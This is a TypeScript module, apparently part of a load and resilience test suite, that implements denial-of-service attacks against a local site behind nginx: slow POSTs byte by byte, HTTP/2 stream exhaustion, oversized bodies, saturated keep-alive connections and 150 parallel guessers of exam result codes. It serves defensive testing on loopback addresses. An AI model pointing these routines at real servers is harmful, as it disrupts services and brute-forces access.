import { fork } from "node:child_process";
import { once } from "node:events";
import { Agent } from "node:https";
import { connect as openHttp2 } from "node:http2";
import { join } from "node:path";
import { setTimeout as wait } from "node:timers/promises";
import { connect } from "node:tls";
import { askFront, type FrontedSite, type FrontRequest } from "../kit/fronted-sites.ts";

/** The address of the attacking client. */
export const attacker = "127.0.0.66";

/** An attack that goes on until it is aborted. Resolves to how often each status was answered. */
export type Attack = (front: Front, signal: AbortSignal) => Promise<Record<string, number>>;

/** Where the site is that is attacked. */
type Front = Pick<FrontedSite, "origin" | "host">;

/** An attack by its name. */
export type AttackOrder = { name: string; front: Front };

/**
 * Starts an attack in a process of its own, because its connections would make this process's own requests late.
 * Returns a function that ends it and resolves to how often each status was answered.
 */
export function startAttack(name: string, { origin, host }: Front): () => Promise<Record<string, number>> {
  const order: AttackOrder = { name, front: { origin, host } };
  const child = fork(join(import.meta.dirname, "attack-process.ts"), [JSON.stringify(order)], { execArgv: [] });
  const ended = once(child, "message");
  return async () => {
    child.send("stop");
    const [statuses] = (await ended) as [Record<string, number>];
    return statuses;
  };
}

const form = { "Content-Type": "application/x-www-form-urlencoded" };

/** Repeats what `lanes` connections do at the same time, each again and again. A broken connection counts as "none". */
async function inLanes(
  lanes: number,
  signal: AbortSignal,
  act: (lane: number, turn: number) => Promise<number>,
): Promise<Record<string, number>> {
  const statuses: Record<string, number> = {};
  const lane = async (_: unknown, place: number) => {
    for (let turn = 0; !signal.aborted; turn += 1) {
      const status = await act(place, turn).catch(() => 0);
      statuses[status || "none"] = (statuses[status || "none"] ?? 0) + 1;
      // A client that is refused at once tries again at once, but must leave this process time for the reader.
      if (status === 0 || status >= 400) await wait(20);
    }
  };
  await Promise.all(Array.from({ length: lanes }, lane));
  return statuses;
}

/** Sends requests over `lanes` open connections, each again after its answer. */
async function overOpenConnections(
  lanes: number,
  front: Front,
  signal: AbortSignal,
  make: (lane: number, turn: number) => FrontRequest & { path: string },
): Promise<Record<string, number>> {
  const agent = new Agent({ keepAlive: true, maxSockets: lanes });
  signal.addEventListener("abort", () => agent.destroy());
  return inLanes(lanes, signal, async (lane, turn) => {
    const { path, ...request } = make(lane, turn);
    return (await askFront(front, path, { ...request, from: attacker, agent })).status;
  });
}

/** Opens a connection and sends the head of a POST, then a byte a second; resolves to the answer's status. */
function sendSlowly({ origin, host }: Front, signal: AbortSignal): Promise<number> {
  return new Promise((resolve) => {
    const { port } = new URL(origin);
    const options = { host: "127.0.0.1", port: Number(port), localAddress: attacker, servername: host };
    const socket = connect({ ...options, rejectUnauthorized: false });
    socket.write(`POST /login HTTP/1.1\r\nHost: ${host}\r\nContent-Type: ${form["Content-Type"]}\r\n`);
    socket.write("Content-Length: 4000\r\n\r\n");
    const timer = setInterval(() => socket.write("a"), 1_000);
    signal.addEventListener("abort", () => socket.destroy());
    socket.once("data", (chunk: Buffer) => {
      resolve(Number(chunk.toString("latin1").split(" ", 2)[1]));
      socket.destroy();
    });
    socket
      .on("error", () => undefined)
      .once("close", () => {
        clearInterval(timer);
        resolve(0);
      });
  });
}

/** Keeps 110 streams of one connection busy: half with searches, half with bodies that never end. */
function inStreams({ origin, host }: Front, signal: AbortSignal): Promise<Record<string, number>> {
  const port = Number(new URL(origin).port);
  const options = { host: "127.0.0.1", port, localAddress: attacker, servername: host, ALPNProtocols: ["h2"] };
  const connection = openHttp2(origin, { createConnection: () => connect({ ...options, rejectUnauthorized: false }) });
  connection.on("error", () => undefined);
  signal.addEventListener("abort", () => connection.destroy());
  return inLanes(110, signal, (lane, turn) => {
    const isPost = lane % 2 === 0;
    const path = isPost ? "/login" : `/search?q=class+${lane}+${turn}`;
    const stream = connection.request(
      { ":path": path, ":authority": host, ":method": isPost ? "POST" : "GET", ...(isPost && form) },
      { endStream: !isPost },
    );
    if (isPost) stream.write("a");
    const { promise, resolve } = Promise.withResolvers<number>();
    let status = 0;
    stream.on("response", (headers) => (status = Number(headers[":status"])));
    stream.on("error", () => undefined).on("close", () => resolve(status));
    stream.resume();
    return promise;
  });
}

const large = Buffer.alloc(1024 * 1024, "a");

/** What one client can do to a site behind nginx, by name. */
export const attacks: Readonly<Record<string, Attack>> = {
  "200 slow posts": (front, signal) => inLanes(200, signal, () => sendSlowly(front, signal)),
  "8 busy connections": (front, signal) =>
    overOpenConnections(8, front, signal, (lane, turn) => ({ path: `/api/notice?offset=${(lane + turn) % 5}` })),
  "4 × 110 HTTP/2 streams": async (front, signal) => {
    const all = await Promise.all(Array.from({ length: 4 }, () => inStreams(front, signal)));
    const statuses: Record<string, number> = {};
    for (const one of all)
      for (const [status, count] of Object.entries(one)) statuses[status] = (statuses[status] ?? 0) + count;
    return statuses;
  },
  "24 large bodies": (front, signal) =>
    inLanes(24, signal, async () => {
      const body = (async function* () {
        for (let part = 0; part < 21 && !signal.aborted; part += 1) yield large;
      })();
      const headers = { ...form, "Content-Length": String(21 * large.length) };
      return (await askFront(front, "/login", { method: "POST", headers, body, from: attacker })).status;
    }),
  "150 guessers": (front, signal) =>
    overOpenConnections(150, front, signal, (lane, turn) => ({
      path: "/result",
      method: "POST",
      headers: { ...form, Origin: `https://${front.host}` },
      body: `examination=1&roll=${1 + (lane % 60)}&code=WRONG${turn % 1000}`,
    })),
};
